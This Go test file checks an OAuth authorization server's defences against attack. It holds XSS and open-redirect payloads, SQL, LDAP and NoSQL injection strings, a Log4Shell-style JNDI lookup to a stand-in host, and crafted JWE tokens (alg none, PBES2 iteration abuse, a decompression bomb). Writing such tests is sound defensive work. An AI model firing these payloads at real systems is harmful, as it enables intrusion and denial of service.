package authserver_test

import (
	"encoding/base64"
	"net/http"
	"net/url"
	"regexp"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"gatehouse"
	"gatehouse/gatehousetest"
	"gatehouse/internal/endpoint"
	"gatehouse/internal/spec"
)

// pages returns the addresses of every page of ours that a GET shows to somebody
// who is signed in, is signing in or did something wrong.
func (s *stage) pages() []string {
	s.Helper()
	login := s.NewBrowser(s.T).Once(http.MethodGet, request("prompt", "login"), nil)
	own := s.NewBrowser(s.T).Once(http.MethodGet, "/account", nil)
	s.code()
	consent := s.Once(http.MethodGet, request("prompt", "consent"), nil)
	addresses := []string{"/account", "/logout", "/logout/confirm", "/authorize", request("client_id", "unknown"), request("redirect_uri", "https://evil.test"), "/login", "/consent", "/login?i=x"}
	for _, answer := range []gatehousetest.Answer{login, own, consent} {
		location, err := answer.Location()
		s.did(err)
		addresses = append(addresses, location.RequestURI())
	}
	return addresses
}

var (
	handlers  = regexp.MustCompile(`(?i)\son[a-z]+\s*=`)
	scripts   = regexp.MustCompile(`(?i)<script[^>]*>`)
	addresses = regexp.MustCompile(`(?i)\s(href|src|action|formaction|data)="([^"]*)"`)
)

// TestXS05NoParameterReachesAScriptOrAnAddress: our pages take nothing from a
// query but what is sealed, and have no script that could take it.
func TestXS05NoParameterReachesAScriptOrAnAddress(t *testing.T) {
	spec.Covers(t, "XS-05", "OR-01")
	s := open(t)
	payloads := []string{"javascript:alert(document.domain)", "//evil.test/x", `"><img src=x onerror=alert(1)>`, "data:text/html,<script>alert(1)</script>", "{{constructor.constructor('alert(1)')()}}"}
	names := []string{"lang", "locale", "theme", "next", "return_to", "rd", "redirect", "redirectTo", "goto", "callback", "url", "error", "error_description", "message", "hint", "utm_source", "oob"}
	seen := 0
	for _, address := range s.pages() {
		for _, payload := range payloads {
			target := address + map[bool]string{true: "&", false: "?"}[strings.Contains(address, "?")]
			for _, name := range names {
				target += name + "=" + url.QueryEscape(payload) + "&"
			}
			answer := s.Once(http.MethodGet, strings.TrimSuffix(target, "&"), nil)
			if location := answer.Header.Get("Location"); location != "" {
				if !strings.HasPrefix(location, "/") || strings.HasPrefix(location, "//") {
					t.Errorf("%s leads to %s", address, location)
				}
				continue
			}
			if !strings.HasPrefix(answer.Header.Get("Content-Type"), "text/html") {
				continue
			}
			seen++
			for _, part := range []string{"evil.test", "onerror", "alert(", "constructor"} {
				if strings.Contains(answer.Text, part) {
					t.Errorf("%s shows %s of %s", address, part, payload)
				}
			}
			if scripts.MatchString(answer.Text) || handlers.MatchString(answer.Text) {
				t.Errorf("%s has a script: %s %s", address, scripts.FindString(answer.Text), handlers.FindString(answer.Text))
			}
			for _, found := range addresses.FindAllStringSubmatch(answer.Text, -1) {
				if to, err := url.Parse(found[2]); err != nil || to.Scheme != "" && to.Scheme != "http" && to.Scheme != "https" {
					t.Errorf("%s leads to %s", address, found[2])
				}
			}
			if policy := answer.Header.Get("Content-Security-Policy"); !strings.Contains(policy, "default-src 'none'") || strings.Contains(policy, "unsafe") {
				t.Errorf("%s has the policy %s", address, policy)
			}
		}
	}
	if seen < 40 {
		t.Errorf("only %d pages were looked at", seen)
	}
}

// injections are texts that another language than ours would obey.
var injections = []string{
	"' OR '1'='1", "alice' --", `alice"; DROP TABLE users; --`, "alice%", "ali_e", "%", "_", "*", "alice*", "*)(uid=*))(|(uid=*", "alice)(&)", ".*", "^alice$", "alice\\", "alice\x00", "alice\x00x",
	"$ne", `{"$gt":""}`, "[$ne]=1", "${jndi:ldap://evil.test/x}", "{{7*7}}", "a\u2028lice", "a\u0300lice", "..\\..\\alice", "../alice", "1 OR 1=1", "E'\\x27'", "alice' UNION SELECT 1 --", "\xff\xfe",
}

// TestXS08NothingIsObeyedThatShouldBeCompared: what means something to a
// database, a directory or a pattern is a name like any other, and nobody has it.
func TestXS08NothingIsObeyedThatShouldBeCompared(t *testing.T) {
	spec.Covers(t, "XS-08")
	s := open(t, func(settings *gatehouse.Settings) { settings.RateLimits.FailuresPerAddress = -1 })
	users, err := s.store().Users(t.Context(), gatehouse.DefaultTenant, "", 0)
	s.did(err)
	login := s.Get(request())
	for _, text := range injections {
		s.Public(text) // comes as name and as secret
		s.Public(url.QueryEscape(text))
		answer := s.Once(http.MethodPost, "/login", login.With("username", text, "password", "wonderland-alice"))
		if refused := answer.StatusCode == http.StatusUnprocessableEntity || answer.StatusCode == http.StatusBadRequest; !refused {
			t.Errorf("%q signs in with %d, sent to %q", text, answer.StatusCode, answer.Header.Get("Location"))
		}
		answer = s.Once(http.MethodPost, "/login", login.With("username", "bob", "password", text))
		if refused := answer.StatusCode == http.StatusUnprocessableEntity || answer.StatusCode == http.StatusBadRequest || answer.StatusCode == http.StatusTooManyRequests; !refused {
			t.Errorf("the password %q signs in with %d", text, answer.StatusCode)
		}
		for path, form := range clientEndpoints {
			if answer := s.send(path, basic(url.QueryEscape(text), url.QueryEscape(secrets["web"])), form); answer.StatusCode != http.StatusUnauthorized {
				t.Errorf("%s for client %q: %d %s", path, text, answer.StatusCode, answer.Text)
			}
			if answer := s.send(path, basic("web", url.QueryEscape(text)), form); answer.StatusCode != http.StatusUnauthorized {
				t.Errorf("%s with the secret %q: %d %s", path, text, answer.StatusCode, answer.Text)
			}
		}
		for _, name := range []string{"code", "refresh_token", "scope", "resource", "grant_type"} {
			form := photos("grant_type", map[string]string{"code": "authorization_code", "refresh_token": "refresh_token"}[name])
			if form.Get("grant_type") == "" {
				form.Set("grant_type", "client_credentials")
			}
			form.Set(name, text)
			client := map[bool]string{true: "web", false: "svc"}[name == "code" || name == "refresh_token"]
			if answer := s.token(client, form); answer.StatusCode != http.StatusBadRequest {
				t.Errorf("%s=%q: %d %s", name, text, answer.StatusCode, answer.Text)
			}
		}
		if answer := s.plain(http.MethodGet, request("client_id", text)); answer.StatusCode != http.StatusBadRequest {
			t.Errorf("authorization for %q: %d", text, answer.StatusCode)
		}
		if answer := s.plain(http.MethodGet, "/t/"+url.PathEscape(text)+"/jwks"); answer.StatusCode != http.StatusNotFound {
			t.Errorf("tenant %q: %d", text, answer.StatusCode)
		}
		for _, token := range []string{"gha_" + text, "ghr_" + text, text} {
			answer := s.post("/introspect", "web", url.Values{"token": {token}})
			if answer.Text != inactive && !(answer.StatusCode == http.StatusBadRequest && (strings.Contains(text, "\x00") || !utf8.ValidString(text))) {
				t.Errorf("introspection of %q: %d %s", token, answer.StatusCode, answer.Text)
			}
		}
	}
	after, err := s.store().Users(t.Context(), gatehouse.DefaultTenant, "", 0)
	s.did(err)
	if len(after) != len(users) {
		t.Errorf("%d users, and %d before", len(after), len(users))
	}
	s.wants(s.token("svc", photos()), http.StatusOK, "")
	s.code()
}

// encrypted are compact JWEs (RFC 7516 §7.1) such as have broken others: an
// unsigned token inside, a costly key derivation, a padding oracle, a point that
// is on no curve, a bomb.
func encrypted() map[string]string {
	part := func(text string) string { return base64.RawURLEncoding.EncodeToString([]byte(text)) }
	unsigned := part(`{"alg":"none"}`) + "." + part(`{"iss":"http://127.0.0.1:8080","sub":"sub-of-alice","aud":"web","exp":4102444800}`) + "."
	const epk = `"epk":{"kty":"EC","crv":"P-256","x":"AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA","y":"AQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQE"}`
	tokens := map[string]string{}
	for name, header := range map[string]string{
		"JW-21 nested": `{"alg":"dir","enc":"A256GCM","cty":"JWT"}`, "JW-21 plain claims": `{"alg":"RSA-OAEP","enc":"A128CBC-HS256","typ":"at+jwt"}`,
		"JE-01 a bomb":     `{"alg":"dir","enc":"A256GCM","zip":"DEF"}`,
		"JE-02 iterations": `{"alg":"PBES2-HS256+A128KW","enc":"A128CBC-HS256","p2c":2147483647,"p2s":"c2FsdHNhbHQ"}`,
		"JE-04 padding":    `{"alg":"RSA1_5","enc":"A128CBC-HS256"}`,
		"JE-06 no point":   `{"alg":"ECDH-ES","enc":"A128GCM",` + epk + `}`,
	} {
		tokens[name] = part(header) + "." + part(strings.Repeat("k", 256)) + "." + part("iv-of-12-oct") + "." + part(unsigned) + "." + part("tag-of-16-octets")
	}
	return tokens
}

// TestEncryptedTokensAreNoTokens: wherever one is read, an encrypted one is
// refused before anything is decrypted.
func TestEncryptedTokensAreNoTokens(t *testing.T) {
	spec.Covers(t, "JW-21", "JE-01", "JE-02", "JE-04", "JE-06", "FT-34")
	s := open(t, func(settings *gatehouse.Settings) { settings.RateLimits.FailuresPerAddress = -1 })
	mine := s.tokens()
	for name, token := range encrypted() {
		s.wants(s.userinfo(token), http.StatusUnauthorized, "invalid_token")
		if answer := s.introspect(token); answer.Text != inactive {
			t.Errorf("%s: introspection says %s", name, answer.Text)
		}
		s.revoke("web", token)
		s.wantSilent("invalid_request", "id_token_hint", token)
		if page := s.Get("/logout?id_token_hint=" + token + "&post_logout_redirect_uri=https%3A%2F%2Fapp.example%2Fbye"); page.Location != nil || page.Path != "/logout" {
			t.Errorf("%s: logout leads to %v", name, page.Location)
		}
		s.wantAnswer(s.Get(request("request", token)), webCallback, "request_not_supported")
		s.wants(s.token("web", url.Values{"grant_type": {"client_credentials"}, "client_assertion": {token}, "client_assertion_type": {"urn:ietf:params:oauth:client-assertion-type:jwt-bearer"}}), http.StatusUnauthorized, "invalid_client")
	}
	s.wantSilent("", "id_token_hint", mine.id)
	s.wantLive(mine)
}

// TestAD08NothingIsLeftOfADisabledUser at any door, nor of one of a disabled
// client; and it is back, as far as it should be, when they are enabled again.
func TestAD08NothingIsLeftOfADisabledUser(t *testing.T) {
	spec.Covers(t, "AD-08", "RT-08")
	travel(t, func(s *stage) {
		online, stays := s.tokens(), s.tokens("scope", offline)
		waiting := s.code()
		account := s.Get("/account")
		if account.StatusCode != http.StatusOK {
			s.Fatalf("the account page: %d", account.StatusCode)
		}
		elsewhere := s.anew(s.T)
		unfinished := elsewhere.Get(request())
		disable := func(disabled bool) {
			s.done(s.store().DisableUser(s.Context(), gatehouse.DefaultTenant, "sub-of-alice", disabled, gatehouse.Event{Kind: gatehouse.EventUserChanged}))
		}
		disable(true)
		s.wantDead(online)
		s.wantDead(stays)
		s.wants(s.redeem(waiting), http.StatusBadRequest, "invalid_grant")
		s.wantSilent("login_required")
		if page := s.Get("/account"); page.Path == "/account" {
			s.Errorf("the account page is shown: %s", page.Text)
		}
		if page := s.Browser.Post("/account/password", account.With("current", "wonderland-alice", "new", "four unusual words here", "again", "four unusual words here")); page.Path == "/account" && strings.Contains(page.Text, "sub-of-alice") {
			s.Errorf("the password page answers: %d %s", page.StatusCode, page.Text)
		}
		if page := elsewhere.Browser.Post("/login", unfinished.With("username", "alice", "password", "wonderland-alice")); page.StatusCode != http.StatusUnprocessableEntity || page.Location != nil {
			s.Errorf("signing in: %d, sent to %v", page.StatusCode, page.Location)
		}
		if page := elsewhere.Browser.Post("/login", elsewhere.Get(request()).With("username", "bob", "password", "builder-bob-builds")); page.StatusCode != http.StatusOK || page.Path != "/consent" {
			s.Errorf("another user: %d at %s", page.StatusCode, page.Path)
		}
		disable(false)
		s.wantDead(online)
		s.wantDead(stays)
		s.wantSilent("login_required")
		time.Sleep(2 * time.Second) // tokens of the very second in which the old ones ended are refused with them
		s.wantLive(s.anew(s.T).tokens())
	})
}

// TestNothingUsedIsUsableAfterARestart: what was used before the server stopped
// was used, and what was not still works.
func TestNothingUsedIsUsableAfterARestart(t *testing.T) {
	spec.Covers(t, "FT-44", "CD-01", "RT-01")
	data := furnished(t)
	issuer, stop := gatehousetest.Run(t, gatehousetest.Options{Data: data})
	s := &stage{t, issuer, issuer.NewBrowser(t)}
	s.set(noGrace)
	used := s.code()
	fromUsed := tokensOf(s.wants(s.redeem(used), http.StatusOK, ""))
	rotated := s.tokens()
	next := tokensOf(s.wants(s.refresh(rotated.refresh), http.StatusOK, ""))
	ended := s.tokens()
	s.revoke("web", ended.access)
	s.revoke("web", ended.refresh)
	living, waiting := s.tokens(), s.code()
	wrong := s.code()
	s.wants(s.redeem(wrong, "code_verifier", wrongVerifier), http.StatusBadRequest, "invalid_grant")
	s.wants(s.redeem(wrong, "code_verifier", wrongVerifier), http.StatusBadRequest, "invalid_grant")
	jar := s.Browser
	signedOut := s.anew(t)
	signedOut.code()
	cookies := signedOut.Cookies()
	signedOut.signOut()
	stop()

	again, stop := gatehousetest.Run(t, gatehousetest.Options{Data: data})
	defer stop()
	s = &stage{t, again, again.NewBrowser(t)}
	s.wantLive(living)
	s.wants(s.redeem(waiting), http.StatusOK, "")
	s.wants(s.redeem(wrong, "code_verifier", wrongVerifier), http.StatusBadRequest, "invalid_grant") // the third
	s.wants(s.redeem(wrong), http.StatusBadRequest, "invalid_grant")
	s.wantAccessDead(ended.access)
	s.wants(s.refresh(ended.refresh), http.StatusBadRequest, "invalid_grant")
	s.wants(s.redeem(used), http.StatusBadRequest, "invalid_grant") // the second redemption ends what the first issued
	s.wantDead(fromUsed)
	s.wants(s.refresh(rotated.refresh), http.StatusBadRequest, "invalid_grant") // an older one ends the chain
	s.wantDead(next)
	s.wantEvents(gatehouse.EventCodeReplayed, 1)
	s.wantEvents(gatehouse.EventRefreshReplayed, 1)
	s.wantLive(living)

	silent := func(carried []*http.Cookie) string {
		r, err := http.NewRequest(http.MethodGet, again.URL+request("prompt", "none"), nil)
		s.did(err)
		for _, cookie := range carried {
			r.AddCookie(cookie)
		}
		location, err := again.Do(t, r).Location()
		s.did(err)
		return location.Query().Get("error")
	}
	if got := silent(jar.Cookies()); got != "" {
		t.Errorf("the session is answered with %q after the restart", got)
	}
	if got := silent(cookies); got != "login_required" {
		t.Errorf("a session that was ended is answered with %q after the restart", got)
	}
}

// TestDS01EveryParameterOfEveryEndpoint takes as much as fits, of what is costly
// to take apart, and answers without a fault of ours.
func TestDS01EveryParameterOfEveryEndpoint(t *testing.T) {
	spec.Covers(t, "DS-01", "FT-31")
	s := open(t, func(settings *gatehouse.Settings) {
		settings.RateLimits.FailuresPerAddress, settings.RateLimits.TokenPerClient, settings.RateLimits.IntrospectionPerClient = -1, -1, -1
	})
	const most = 16 << 10
	costly := []string{
		strings.Repeat(" ", most), strings.Repeat("a ", most/2), strings.Repeat(",", most), strings.Repeat(".", most), strings.Repeat("%", most), strings.Repeat("[", most), strings.Repeat(`{"a":`, most/5),
		strings.Repeat("\\", most), strings.Repeat("ü", most/2), strings.Repeat("9", most), "ghc_" + strings.Repeat("A", most-4), "http://" + strings.Repeat("a.", most/2-8) + "/",
	}
	names := []string{
		"client_id", "redirect_uri", "response_type", "response_mode", "scope", "state", "nonce", "code_challenge", "code_challenge_method", "prompt", "max_age", "display", "ui_locales", "claims_locales", "id_token_hint",
		"login_hint", "acr_values", "claims", "resource", "request", "request_uri", "registration", "i", "posted", "grant_type", "code", "code_verifier", "refresh_token", "token", "token_type_hint", "client_secret",
		"client_assertion", "access_token", "post_logout_redirect_uri", "username", "password", "csrf", "decision", "session", "action", "account",
	}
	for _, text := range costly {
		s.Public(text) // comes in every place
	}
	asked := 0
	for _, row := range s.Server().Rows() {
		if row.Process {
			continue
		}
		for _, method := range row.Methods {
			for i, name := range names {
				text := costly[(asked+i)%len(costly)]
				form := url.Values{"client_id": {"web"}, "response_type": {"code"}, "redirect_uri": {webCallback}, "grant_type": {"authorization_code"}, name: {text}}
				target, body := row.Path, form.Encode()
				if method == http.MethodGet {
					target, body = target+"?"+body, ""
				}
				r, err := http.NewRequest(method, s.URL+target, strings.NewReader(body))
				s.did(err)
				if method == http.MethodPost {
					r.Header.Set("Content-Type", formType)
				}
				if row.Caller == endpoint.ClientCredentials && name != "client_secret" {
					r.SetBasicAuth("web", secrets["web"])
				}
				asked++
				if answer := s.Do(t, r); answer.StatusCode >= http.StatusInternalServerError {
					t.Errorf("%s %s with %s of %.10s…: %d %s", method, row.Path, name, text, answer.StatusCode, answer.Text)
				}
			}
		}
	}
	if asked < 500 {
		t.Errorf("only %d requests", asked)
	}
	s.wants(s.token("svc", photos()), http.StatusOK, "")
}
